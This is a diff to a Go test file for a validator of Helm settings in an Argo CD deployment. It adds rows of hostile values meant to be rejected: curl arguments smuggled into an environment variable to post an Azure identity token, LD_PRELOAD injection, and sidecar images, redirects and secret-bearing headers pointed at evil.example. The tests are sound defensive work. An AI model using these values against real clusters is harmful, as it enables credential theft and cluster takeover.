@@ -29,6 +29,14 @@ func beside(ingress, key, value, verdict string) row {
 	return row{"ingress and " + key + "=" + value, map[string]string{"ingress": ingress, "extraSettings": asJSON(map[string]string{key: value})}, verdict, nil}
 }
 
+// installer is a row of a variable of the installer of extensions.
+func installer(name, value, verdict string) row {
+	const extension = "server.extensions.extensionList[0]"
+	return extras(map[string]string{
+		"server.extensions.enabled": "true", extension + ".name": "x", extension + ".env[0].name": name, extension + ".env[0].value": value,
+	}, verdict)
+}
+
 // policies is a row of policy lines, which define the role a.
 func policies(verdict string, lines ...string) row {
 	changes := map[string]string{"policies": asJSON(lines)}
@@ -352,8 +360,8 @@ var extraRows = []row{
 	extra("applicationSet.dnsPolicy", "Cluster First", ""),
 	extra("redis.image.tag", "8.10", ""),
 	extra("redis.image.tag", "8.2.3-alpine@sha256:0123", ""),
-	extra("redis.livenessProbe.enabled", "True", "Helm reads as true"),
-	extra("redis-ha.redis.livenessProbe.periodSeconds", "+5", "Helm reads as 5"),
+	extra("redis.livenessProbe.enabled", "True", "Helm reads as another text"),
+	extra("redis-ha.redis.livenessProbe.periodSeconds", "+5", "Helm reads as another text"),
 	extra("redis-ha.labels.team", "x\n  app: y", unquoted),
 	extra("redis-ha.haproxy.image.tag", "x\n        command: [sh]", unquoted),
 	extra("notifications.extraArgs[0]", "--x='\n  y", unquoted),
@@ -414,7 +422,59 @@ var extraRows = []row{
 		"server.affinity.podAntiAffinity.requiredDuringSchedulingIgnoredDuringExecution[0].topologyKey":                                        "kubernetes.io/hostname",
 	}, ""),
 
+	installer("EXTENSION_URL", "https://x.example/x.tar", ""),
+	installer("MAX_DOWNLOAD_SEC", "30 --data-binary @/var/run/secrets/azure/tokens/azure-identity-token", server),
+	installer("EXTENSION_URL", "-K/tmp/x", server),
+	installer("HOME", "/tmp", server),
+	installer("LD_PRELOAD", "/tmp/x.so", server),
+	extra("server.extensions.containerSecurityContext.privileged", "true", server),
+	extra(`server.podAnnotations.sidecar\.istio\.io/proxyImage`, "evil.example/p", server),
+	extra(`server.podLabels.sidecar\.istio\.io/inject`, "true", server),
+	extra(`global.podAnnotations.dapr\.io/sidecar-image`, "evil.example/p", server),
+	extra(`server.podAnnotations.vault\.hashicorp\.com/agent-inject-secret-x`, "x", server),
+	extra(`server.podAnnotations.prometheus\.io/scrape`, "true", ""),
+	extra("server.dnsConfig.nameservers[0]", "203.0.113.66", server),
+	extra("server.dnsConfig.options[0].name", "ndots", ""),
+	extra("global.hostAliases[0].hostnames[0]", "argocd-repo-server", server),
+	extra("global.hostAliases[0].hostnames[0]", "git.corp.example", ""),
+	extras(map[string]string{"server.env[0].name": "TZ", "server.env[0].valueFrom.secretKeyRef.name": "x"}, server),
+	extras(map[string]string{"global.env[0].name": "TZ", "global.env[0].valueFrom.secretKeyRef.name": "x"}, server),
+	extras(map[string]string{"server.env[0].name": "HTTPS_PROXY", "server.env[0].value": "$(TZ)"}, server),
+	extras(map[string]string{"controller.env[0].name": "X", "controller.env[0].valueFrom.secretKeyRef.name": "argocd-secret"}, "would hand out argocd-secret"),
+	extra("repoServer.envFrom[0].secretRef.name", "argocd-secret", "would hand out argocd-secret"),
+	extra("dex.volumes[0].secret.secretName", "argocd-secret", "would hand out argocd-secret"),
+	extra("redis-ha.existingSecret", "argocd-secret", "would hand out argocd-secret"),
+	secretValue("configs.clusterCredentials.x.config.execProviderConfig.command", "sh", "which command argocd-server runs"),
+	secretValue("configs.clusterCredentials.x.config.awsAuthConfig.clusterName", "x", "which command argocd-server runs"),
+	extra(`configs.cm.extension\.config`, "extensions: [{backend: {services: [{url: https://evil.example, headers: [{name: x, value: $server.secretkey}]}]}}]", "would change passwords"),
+	extra(`configs.cm.extension\.config\.x`, "value: $argocd-repo-x:password", "would change passwords"),
+	extra(`configs.cm.extension\.config`, "value: $metrics-token:key", ""),
+	extra(`configs.cm.resource\.customizations\.useOpenLibs\.ConfigMap`, "true", "what Lua of resource.customizations can do"),
+	extra(`configs.cm.resource\.customizations`, "ConfigMap:\n  health.lua.useOpenLibs: true\n", "what Lua of resource.customizations can do"),
+	extra("notifications.extraArgs[0]", "--secret-name=argocd-secret", part),
+	extra("notifications.extraArgs[0]", "--config-map-name=x", part),
+	extra("controller.extraArgs[0]", "--repo-server=evil.example:8081", part),
+	extra("controller.extraArgs[0]", "--redis=evil.example:6379", part),
+	extra("applicationSet.extraArgs[0]", "--argocd-repo-server=evil.example:8081", part),
+	extra("controller.extraArgs[0]", "-nkube-system", part),
+	extra("controller.extraArgs[0]", "--repo-server-timeout-seconds=120", ""),
+	extra("configs.repositories.server-tls.url", "https://git.example", names),
+	extra("redis-ha.replicas", "2000000", "more than 999 replicas"),
+	extras(map[string]string{"controller.env[0].name": "X", "controller.env[0].value": ""}, "is empty in a list"),
+	secretValue("configs.repositories.private.password", "+1234", "Helm reads as another text"),
+
+	extras(map[string]string{
+		"controller.metrics.rules.spec[0].alert": "x", "controller.metrics.rules.spec[0].annotations.summary": "Application {{ $labels.name }} is not healthy",
+	}, ""),
+	extras(map[string]string{"server.env[0].name": "ARGOCD_API_SERVER_REPLICAS", "server.env[0].value": "2"}, ""),
+	extra(`configs.cm.project\.links`, "- url: https://x.example\n", ""),
+	extra("redis.automountServiceAccountToken", "false", ""),
+	extra("repoServer.certificateSecret.enabled", "true", ""),
+	extra("repoServer.certificateSecret.enabled", ":z", tls),
+	extra("redis.automountServiceAccountToken", "true", account),
+
 	// Secrets.
+	extras(map[string]string{"repoServer.env[0].name": "HTTPS_PROXY", "repoServer.env[0].value": "user:s3cret@proxy.example:3128"}, isSecretURL),
 	extra("configs.repositories.private.url", "https://user:s3cret@git.example/x", isSecretURL),
 	extra("configs.repositories.private.url", "https://s3cret@git.example/x", isSecretURL),
 	extra("configs.repositories.private.url", "ssh://git@git.example/x", ""),
@@ -428,6 +488,21 @@ var extraRows = []row{
 	// Size.
 	extra(`notifications.templates.template\.x`, long, "bytes"),
 	extras(map[string]string{`notifications.templates.template\.x`: long[:len(long)/2], `configs.cm.help\.chatText`: long[:len(long)/2]}, "bytes"),
+
+	// Ways to Argo CD.
+	extras(map[string]string{`configs.params.server\.insecure`: "true", "server.ingress.enabled": "true"}, plainHTTP),
+	extras(map[string]string{`configs.params.server\.insecure`: "true", "server.ingress.enabled": "true", "server.ingress.tls": "true"}, ""),
+	extras(map[string]string{`configs.params.server\.insecure`: "true", "server.ingressGrpc.enabled": "true"}, plainHTTP),
+	extras(map[string]string{`configs.params.server\.insecure`: "true", "server.ingress.aws.serviceType": "LoadBalancer"}, plainHTTP),
+	extras(map[string]string{`configs.params.server\.insecure`: "true", "server.listenerset.protocol": "HTTP"}, plainHTTP),
+	extras(map[string]string{`configs.params.server\.insecure`: "true", "server.route.termination_policy": "Allow"}, plainHTTP),
+	extra(`server.ingress.annotations.nginx\.ingress\.kubernetes\.io/ssl-redirect`, "false", "would undo TLS"),
+	extra(`server.ingress.annotations.nginx\.ingress\.kubernetes\.io/configuration-snippet`, "x", "configuration as text"),
+	extra(`server.ingressGrpc.annotations.nginx\.ingress\.kubernetes\.io/permanent-redirect`, "https://evil.example", "to another server"),
+	extra(`server.ingress.annotations.nginx\.ingress\.kubernetes\.io/proxy-body-size`, "8m", ""),
+	extra("server.ingress.extraPaths[0].path", "/auth/callback", "to another server"),
+	extra("server.httproute.rules[0].filters[0].type", "RequestMirror", "to another server"),
+	key("ingress", `{"className":"traefik","tlsSecret":"argocd-secret"}`, "begins as Argo CD's own Secrets do"),
 
 	// Plain HTTP.
 	extras(map[string]string{`configs.params.server\.insecure`: "true", "server.service.type": "LoadBalancer"}, plainHTTP),
@@ -443,7 +518,6 @@ var extraRows = []row{
 	beside(passthrough, "server.service.type", "LoadBalancer", ""),
 	beside(traefik+"}", "server.ingress.extraHosts[0].name", "cd.example.com", "would add a host that ingress.tlsSecret is not used for"),
 	beside(`{"className":"traefik","certManagerIssuer":"letsencrypt"}`, "server.ingress.extraHosts[0].name", "cd.example.com", ""),
-	beside(`{"className":"traefik","certManagerIssuer":"letsencrypt"}`, "server.ingress.extraHosts[0].name", "", "has no name"),
 	beside(`{"className":"traefik","certManagerIssuer":"letsencrypt"}`, "server.ingress.extraHosts[0].path", "/", "has no name"),
 
 	// Beside the ingress.
@@ -469,6 +543,10 @@ var extraRows = []row{
 	{"a mount in place of that for spoke clusters", map[string]string{
 		"clusters":      asJSON([]string{spokeID + "shop"}),
 		"extraSettings": `{"controller.volumeMounts[0].name":"x","controller.volumeMounts[0].mountPath":"/var/run/secrets/entra"}`,
+	}, "is the folder from which Argo CD signs in", nil},
+	{"a mount over that for spoke clusters", map[string]string{
+		"clusters":      asJSON([]string{spokeID + "shop"}),
+		"extraSettings": `{"controller.volumeMounts[0].name":"x","controller.volumeMounts[0].mountPath":"//run/./secrets"}`,
 	}, "is the folder from which Argo CD signs in", nil},
 	{"a list in place of that for spoke clusters", map[string]string{
 		"clusters": asJSON([]string{spokeID + "shop"}), "extraSettings": `{"controller.volumes":"null"}`,
